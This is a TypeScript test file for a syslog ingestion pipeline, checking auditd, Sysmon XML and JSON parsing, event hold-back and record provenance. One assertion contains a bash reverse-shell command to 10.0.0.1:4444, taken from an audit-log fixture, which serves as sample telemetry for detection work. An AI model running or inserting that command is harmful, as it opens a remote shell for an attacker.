// Syslog messages → records through the existing readers: rebuilt lines, per-reader groups, held-back
// audit events, and provenance (stream, sender, message number and offset in the stream).
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { parseSyslog } from '../../../src/ingest/syslog/parse.js';
import { queueMessage, readBatch, takeBatch, type QueuedMessage } from '../../../src/ingest/syslog/records.js';
import { Normalizer } from '../../../src/normalize/index.js';
import { projectRoot } from '../../helpers/corpus.js';

const NOW = Date.UTC(2023, 10, 20);
const auditLines = readFileSync(`${projectRoot}/test/fixtures/syslog/reverse-shell.audit.log`, 'utf8').split('\n').filter(Boolean);
const sysmonLines = readFileSync(`${projectRoot}/test/fixtures/xml/sysmon-linux.syslog`, 'utf8').split('\n').filter(Boolean);
const q = (text: string, seq: number, receivedMs = NOW): QueuedMessage => queueMessage(parseSyslog(text, NOW), '192.0.2.9', 'syslog-tcp', { seq, receivedMs, offset: seq * 100 });
const p23 = (host: string, msg: string) => `<14>1 2023-11-14T22:15:00.500+00:00 ${host} audispd - - - ${msg}`;

test('a message is rebuilt as `ISO-TIME HOST APP[PID]: MSG`; the peer address stands in for a missing host', () => {
  assert.equal(q('<13>1 2023-11-14T22:13:20.5Z web01 sshd 42 - - hello', 1).text, '2023-11-14T22:13:20.500Z web01 sshd[42]: hello');
  assert.equal(q('<13>just text', 1, Date.UTC(2023, 0, 1)).text, '2023-01-01T00:00:00.000Z 192.0.2.9 just text');
  const json = q('<13>1 - h fluent-bit - - - {"message":"x",\n"host":"h"}', 1);
  assert.deepEqual([json.reader, json.text], ['json', '{"message":"x", "host":"h"}']);
});

test('readers are sniffed per message: auditd, Sysmon XML, JSON; other programs\' lines get none', () => {
  assert.equal(q(p23('web01', auditLines[0]), 1).reader, 'auditd');
  assert.equal(q(`<14>${sysmonLines[0]}`, 1).reader, 'xml');
  assert.equal(q('<14>1 - h app - - - {"EventID":1}', 1).reader, 'json');
  assert.equal(q('<78>Nov 14 22:13:20 lnx01 CRON[5]: (root) CMD (true)', 1).reader, null);
});

test('a mixed batch: each reader reads its own messages; a multi-line audit event is one record with argv', async () => {
  const batch = [
    q('<14>1 - h app - - - {"EventID":1,"Image":"/usr/bin/id","Computer":"j1"}', 1),
    ...auditLines.map((l, i) => q(p23('web01', l), i + 2)),
    ...sysmonLines.map((l, i) => q(`<14>${l}`, i + 20)),
  ];
  const r = await readBatch(batch, 'syslog-tcp', '192.0.2.9:5000');
  assert.deepEqual(r.diagnostics, []);
  assert.deepEqual(r.records.map((x) => x.format), ['json-flat', 'auditd', 'auditd', 'xml', 'xml']);
  const exec = r.records[1];
  assert.deepEqual(exec.data.argv, ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1']);
  assert.equal(exec.system.computer, 'web01');
  assert.deepEqual(exec.ref, { file: 'syslog-tcp', record: '1700000100.500:7001', channel: null, eventId: null, stream: 'syslog-tcp', sender: '192.0.2.9:5000', line: 2, offset: 200 });
  assert.equal(r.records[3].system.computer, 'lnx01');
  const n = new Normalizer();
  const ev = r.records.map((x) => n.normalize(x));
  assert.deepEqual(ev.map((e) => e.kind), ['other', 'process_start', 'network', 'process_start', 'network']);
  assert.equal(ev[1].host, 'web01');
});

test('one MSG holding several audit records (LF inside an octet-counted frame): each line keeps the host', async () => {
  const r = await readBatch([q(p23('web02', auditLines.slice(0, 7).join('\n')), 1)], 'syslog-tcp', 'p');
  assert.equal(r.records.length, 1);
  assert.equal(r.records[0].system.computer, 'web02');
  assert.equal((r.records[0].data.argv as string[]).length, 3);
});

test('takeBatch holds back the newest audit event until its EOE, another event, or the hold time', () => {
  const lines = auditLines.map((l, i) => q(p23('web01', l), i + 1));
  const partial = lines.slice(0, 4); // SYSCALL EXECVE CWD PATH of 7001, no EOE yet
  const other = q('<14>1 - h app - - - {"a":1}', 50);
  let t = takeBatch([...partial, other], 500, NOW, 20, false);
  assert.deepEqual(t.batch, [other]);
  assert.equal(t.held.length, 4);
  t = takeBatch(lines.slice(0, 7), 500, NOW, 20, false);
  assert.equal(t.batch.length, 7, 'EOE completes the event');
  t = takeBatch(lines.slice(0, 9), 500, NOW, 20, false);
  assert.deepEqual([t.batch.length, t.held.length], [7, 2], 'only the newest event is held');
  assert.equal(takeBatch(partial, 500, NOW + 20, 20, false).batch.length, 4, 'the hold time ran out');
  assert.equal(takeBatch(partial, 500, NOW, 20, true).batch.length, 4, 'end of stream');
  assert.equal(takeBatch(partial, 3, NOW, 20, false).batch.length, 3, 'one event larger than a batch is not held forever');
});

test('reader diagnostics point at the message in the stream, not the batch buffer', async () => {
  const r = await readBatch([q('<14>1 - h app - - - {"a":1}', 7), q('<14>1 - h app - - - {"a":}', 8)], 'syslog-udp', 's');
  assert.equal(r.records.length, 1);
  assert.equal(r.diagnostics.length, 1);
  assert.equal(r.diagnostics[0].location?.file, 'syslog-udp');
  assert.equal(r.diagnostics[0].location?.line, 8);
  assert.equal(r.diagnostics[0].location?.offset, 800);
});
